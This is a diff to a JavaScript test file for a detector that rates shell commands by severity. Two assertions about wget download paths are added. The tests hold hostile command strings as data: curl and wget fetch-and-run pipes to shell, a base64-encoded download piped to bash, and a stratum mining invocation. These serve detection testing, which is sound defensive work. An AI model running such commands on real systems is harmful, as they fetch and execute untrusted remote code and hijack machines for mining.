@@ -13,6 +13,8 @@ test('hit: fetch and run, decode and run, a listed host, a miner', () => {
   assert.equal(detect('curl -fsSL http://203.0.113.5/x | sh')[0]?.severity, 'high')
   assert.equal(detect('curl -fsSL https://a.example/x | sh')[0]?.severity, 'medium')
   assert.equal(detect('wget -q https://pool.example/x -O /opt/x')[0]?.severity, 'high')
+  assert.equal(detect('wget -q https://code.example/evil/setup.sh -O /opt/x')[0]?.severity, 'high')
+  assert.notEqual(detect('wget -q https://code.example/good/setup.sh -O /opt/x')[0]?.severity, 'high')
   assert.equal(detect(`echo ${btoa('wget -qO- http://203.0.113.5/x | bash')} | base64 -d | bash`)[0]?.severity, 'high')
   assert.equal(detect('/usr/bin/a -o stratum+tcp://a.example:1 -u w -p x')[0]?.signal, 'mining')
 })
